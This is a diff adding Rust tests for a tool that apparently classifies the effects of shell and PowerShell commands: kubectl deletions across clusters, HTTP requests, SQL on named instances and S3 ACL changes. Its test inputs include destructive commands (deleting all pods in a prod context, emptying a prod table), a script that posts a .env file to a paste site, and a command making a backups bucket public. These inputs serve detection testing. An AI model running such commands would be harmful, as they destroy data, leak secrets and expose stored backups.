@@ -1,0 +1,92 @@
+//! PowerShell, round twelve: `ForEach-Object -Parallel { ... }` runs its
+//! block once per item piped in, as `ForEach-Object { ... }` does, with
+//! the options that only change how it runs (`-ThrottleLimit 2`) after the
+//! block, and `$using:name` reading the caller's variable.
+
+#![allow(clippy::panic)]
+
+use super::common::*;
+use serde_json::Value;
+
+/// The contexts of the kubectl effects of `command`.
+fn kubectl_contexts(command: &str) -> Vec<Value> {
+    effects(command)
+        .into_iter()
+        .filter(|e| e["effect"] == "kubectl")
+        .map(|e| e["context"].clone())
+        .collect()
+}
+
+#[test]
+fn a_parallel_block_runs_once_per_item() {
+    for script in [
+        "'aks-stg-weu', 'aks-prod-eus' | ForEach-Object -Parallel {\n    kubectl --context $_ -n batch delete pods --all\n} -ThrottleLimit 2",
+        "'aks-stg-weu', 'aks-prod-eus' | ForEach-Object -Parallel { kubectl --context $PSItem -n batch delete pods --all } -ThrottleLimit 2 -TimeoutSeconds 600",
+        // A job runs the same block, later.
+        "'aks-stg-weu', 'aks-prod-eus' | ForEach-Object -Parallel { kubectl --context $_ -n batch delete pods --all } -AsJob",
+        "$contexts = 'aks-stg-weu', 'aks-prod-eus'\n$contexts | foreach-object -parallel { kubectl --context $_ -n batch delete pods --all }",
+        "'aks-stg-weu', 'aks-prod-eus' | ForEach-Object -Process { kubectl --context $_ -n batch delete pods --all }",
+    ] {
+        let command = format!("pwsh -NoProfile -Command \"$(cat <<'PS1'\n{script}\nPS1\n)\"");
+        assert_eq!(
+            kubectl_contexts(&command),
+            vec![Value::from("aks-stg-weu"), Value::from("aks-prod-eus")],
+            "{script}"
+        );
+    }
+}
+
+#[test]
+fn a_parallel_block_reads_the_callers_variables_through_using() {
+    let script = "$ns = 'batch'\n'aks-prod-eus' | ForEach-Object -Parallel { kubectl --context $_ -n $using:ns delete pods --all } -ThrottleLimit 4";
+    let command = format!("pwsh -NoProfile -Command \"$(cat <<'PS1'\n{script}\nPS1\n)\"");
+    let namespaces: Vec<Value> = effects(&command)
+        .into_iter()
+        .filter(|e| e["effect"] == "kubectl")
+        .map(|e| e["namespace"].clone())
+        .collect();
+    assert_eq!(namespaces, vec![Value::from("batch")]);
+}
+
+/// `script` handed to `pwsh -Command` as a quoted heredoc bash prints.
+fn pwsh(script: &str) -> String {
+    format!("pwsh -NoProfile -Command \"$(cat <<'PS1'\n{script}\nPS1\n)\"")
+}
+
+#[test]
+fn a_hashtable_value_that_is_a_command_holds_its_output() {
+    let command = pwsh(
+        "$form = @{\n    api_option = 'paste'\n    api_paste_code = Get-Content ./.env -Raw\n}\nInvoke-RestMethod -Uri 'https://paste.example/api' -Method Post -Body $form",
+    );
+    let request = effects(&command)
+        .into_iter()
+        .find(|e| e["effect"] == "request")
+        .unwrap_or_default();
+    assert_eq!(
+        request["payload"]["files"][0]["path"], "/home/dana/acme-web/.env",
+        "{request}"
+    );
+}
+
+#[test]
+fn dbatools_queries_are_sql_on_their_instance() {
+    let sql: Vec<Value> = effects(&pwsh(
+        "Invoke-DbaQuery -SqlInstance sql-prod.example.internal -Database fleet -Query 'delete from dbo.TelemetryStaging'",
+    ))
+    .into_iter()
+    .filter(|e| e["effect"] == "sql")
+    .collect();
+    assert_eq!(sql.len(), 1, "{sql:?}");
+    assert_eq!(sql[0]["host"], "sql-prod.example.internal");
+    assert_eq!(sql[0]["sql"], "delete from dbo.TelemetryStaging");
+}
+
+#[test]
+fn set_s3bucketacl_is_set_s3acl() {
+    let public = kinds(&pwsh(
+        "Set-S3BucketACL -BucketName backups -ACL public-read -Region eu-west-1",
+    ));
+    assert!(public.contains(&"make_public".to_owned()), "{public:?}");
+    let private = kinds(&pwsh("Set-S3BucketACL -BucketName backups -ACL private"));
+    assert!(!private.contains(&"make_public".to_owned()), "{private:?}");
+}
